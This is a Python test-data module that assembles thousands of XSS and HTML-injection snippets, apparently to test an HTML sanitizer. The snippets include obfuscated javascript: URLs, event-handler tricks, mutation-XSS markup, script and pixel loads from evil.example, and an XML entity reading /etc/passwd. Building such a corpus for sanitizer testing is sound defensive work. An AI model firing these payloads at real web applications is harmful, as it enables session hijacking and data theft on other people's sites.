# ruff: noqa: E501 (a snippet reads best on one line)
"""Snippets that try to run, to fetch, to break out, to hide or to crash: our own exam, made by crossing shapes with tricks."""

from collections.abc import Iterator
from itertools import product

CALL = "window.pwned=1"

SCRIPT_SCHEMES = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"java\tscript:{CALL}", f"java\nscript:{CALL}", f"java\x01script:{CALL}",
    f"java&#1;script:{CALL}", f"java&#x0;script:{CALL}", f"java&Tab;script:{CALL}", f"java&NewLine;script:{CALL}", f"&#106;avascript:{CALL}",
    f"&#x6A&#x61vascript:{CALL}", f"javascript&colon;{CALL}", f"javascript&#58;{CALL}", f"\x0bjavascript:{CALL}", f"&#8;javascript:{CALL}",
    f"\u00a0javascript:{CALL}", f"\u200bjavascript:{CALL}", f"\ufeffjavascript:{CALL}", f"java\u00adscript:{CALL}", f"//javascript:{CALL}",
    f"vbscript:{CALL}", f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD4=", f"livescript:{CALL}",
    f"javascript://x.example/%0a{CALL}", f"javascript:/*--></title></style>*/{CALL}", f"jar:javascript:{CALL}!/", f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}", f"blob:{CALL}", "file:///etc/passwd", f"plate:javascript:{CALL}", "javascript:123", f"ja\x00vascript:{CALL}",
    f"java&shy;script:{CALL}", f"java&zwj;script:{CALL}", f"&Tab;javascript:{CALL}", f"java\\nscript:{CALL}", f"javascript\u003a{CALL}",
]  # fmt: skip
LINK_SHAPES = [
    '<a href="{}">x</a>', "<a href='{}'>x</a>", '<a href="{}" target=_blank>x</a>', '<A HREF = "{}" >x</A>', '<area href="{}">', '<base href="{}">',
    '<form action="{}"><button formaction="{}">x</button></form>', '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>',
    '<img src="{}">', '<img srcset="{} 2x" src="{}">', '<input type=image src="{}">', '<video src="{}" poster="{}"></video>', '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<svg><a xlink:href="{}"><text>x</text></a></svg>', '<math href="{}">x</math>', '<body background="{}">',
    '<table background="{}"><tr><td background="{}">x<td>y</table>', '<a style="background:url({})">x</a>', '<q cite="{}">x</q>',
    '<blockquote cite="{}">x</blockquote>', '<a name="{}">x</a>', '<p id="{}">x', '<bgsound src="{}">', '<frameset><frame src="{}"></frameset>',
    '<audio><source src="{}"></audio>', '<param name=movie value="{}">', '<applet code="{}"></applet>', '<xml src="{}">x</xml>', '<img lowsrc="{}" dynsrc="{}">',
]  # fmt: skip
HANDLERS = [
    "onclick",
    "onload",
    "onerror",
    "onmouseover",
    "onfocus autofocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "ONPOINTERENTER",
    "on\x00error",
    "formaction",
]
HANDLER_SHAPES = [
    '<{tag} {on}="{call}">x</{tag}>', "<{tag} {on}={call}>x", '<{tag}/{on}="{call}"/>x', '<{tag} x="\'"{on}="{call}">x', '<{tag} a=b\n{on}\n=\n"{call}">x',
    '<{tag} "" {on}="{call}">x', "<{tag} '' {on}={call} x", '<{tag} title="x>" {on}="{call}">x', "<{tag} title='\"' {on}='{call}'>x", '<{tag} alt="` {on}={call}">x',
]  # fmt: skip
TAGS = [
    "p",
    "b",
    "img src=x",
    "a href=x",
    "div",
    "svg",
    "body",
    "details open",
    "table",
    "span",
    "marquee",
    "video",
    "font",
    "x",
    "input",
    "select",
    "isindex",
]
WHOLE = [
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}", "<<script>{}//<</script>", "<script/x>{}</script>",
    "<script\x00>{}</script>", "<scr\x00ipt>{}</script>", "<!--<script>-->{}<!--</script>-->", "<svg><script>{}</script></svg>", "<svg onload={}>", "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">", "<math><annotation-xml encoding=text/html><style><img src=x onerror={}></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\"></noscript>", "<textarea><img title=\"</textarea><img src=x onerror={}>\"></textarea>", "<title><img title=\"</title><img src=x onerror={}>\"></title>",
    "<style>@import '//evil.example/x.css'; p{{background:url(//evil.example/)}}</style>x", "<style>x", "<xmp><img title=\"</xmp><img src=x onerror={}>\"></xmp>", "<plaintext><img src=x onerror={}>",
    "<iframe srcdoc=\"<script>{}</script>\"></iframe>", "<object><param name=src value=x><embed src=//evil.example/x.swf></object>", "<template><script>{}</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<p style=\"background:url(//evil.example/)\">x", "<p style=\"position:fixed;top:0;left:0;width:9999px\">x",
    "<p style=\"color:var(--x);font-size:9999px;margin-left:-9999px\">x", "<p style=\"behavior:url(#x);-moz-binding:url(x)\">x", "<p style='width:expression({})'>x", "<p class=\"site-header modal overlay\">x",
    "<p id=location>x</p><a id=cookie href=x>y</a><img name=getElementById src=x>", "<form id=test><input name=attributes></form>", "<a href=\"#\" id=\"t-x\" name=__proto__>x</a>",
    "<details open ontoggle={}>x", "<img src=x:x onerror={} onload={}>", "<img src=\"x` `<script>{}</script>\"` `>", "<img src=x onerror=\"{}\"", "<a href=\"x\"onmouseover=\"{}\">x", "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<![CDATA[<script>{}</script>]]>", "<?xml-stylesheet href=\"javascript:{}\"?>x", "<?php echo '<script>{}</script>' ?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;", "&amp;lt;script&amp;gt;{}", "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}+ADw-/script+AD4-", "\u2028<script>{}</script>", "<a href=\"http://x.example\" rel=\"opener\" target=\"_top\">x</a>",
    "<p lang=\"x\" onclick=\"{}\" dir=\"rtl\">x", "<table><td><script>{}</script><tr><style><!--</style>x", "<select><option><script>{}</script></option><style>x</style></select>", "<ruby><rt><script>{}</script></ruby>", "<base href=//evil.example/><a href=x>y</a>",
    "<meta charset=utf-7>+ADw-script+AD4-", "<link rel=import href=//evil.example/>", "<p>\u202e<b>x", "<img src=//evil.example/pixel.gif width=1 height=1>", "<img src=\"https://evil.example/a.png\" alt=\"x\">", "<a href=\"http://[::1\">x</a><a href=\"http://a:b:c/\">y</a>",
    "<embed src=https://evil.example/x.swf allowscriptaccess=always>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload={}>#x\"/></svg>", "<svg><animate attributeName=href values=javascript:{} /><a id=x>y</a></svg>",
    "<svg><set attributeName=onload to={} /></svg>", "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>", "<math><mi xlink:href=\"javascript:{}\">x</mi></math>", "<a ping=//evil.example/ href=http://a.example/>x</a>",
    "<input type=hidden accesskey=x onclick={}>", "<isindex type=image src=x onerror={}>", "<keygen autofocus onfocus={}>", "<marquee onstart={}>x</marquee>", "<dialog open><form method=dialog><button onclick={}>x</button></form></dialog>",
    "<portal src=//evil.example/></portal>", "<slot onslotchange={}></slot>", "<x-y onclick={}>x</x-y>", "<o:p onclick={}>x</o:p>", "<st1:place style=\"x:expression({})\">x</st1:place>", "<v:shape><v:imagedata src=//evil.example/x></v:shape>",
    "<p>\ud800\udc00\udfff x", "<p>\ufffe\uffff\ufdd0 x", "<a title='a&#10;b&#13;c&#0;d' href=x>y</a>", "<img alt='&lt;/p&gt;&lt;script&gt;{}&lt;/script&gt;' src=x>", "<p title='\"><script>{}</script>'>x", "<abbr title='\"><img src=x onerror={}>'>x</abbr>",
]  # fmt: skip


def snippets() -> Iterator[str]:
    """Give every snippet of the exam."""
    for shape, scheme in product(LINK_SHAPES, SCRIPT_SCHEMES):
        yield shape.replace("{}", scheme)
    for shape, tag, on in product(HANDLER_SHAPES, TAGS, HANDLERS):
        yield shape.format(tag=tag, on=on, call=CALL)
    for shape in WHOLE:
        yield shape.replace("{}", CALL)
    for outer, inner in product(
        ("<table><tr><td>{}</table>", "<b><p>{}</b>", "<ul><li>{}</ul>", "<pre>{}</pre>", "<a href=y>{}</a>"), WHOLE
    ):
        yield outer.replace("{}", inner.replace("{}", CALL))
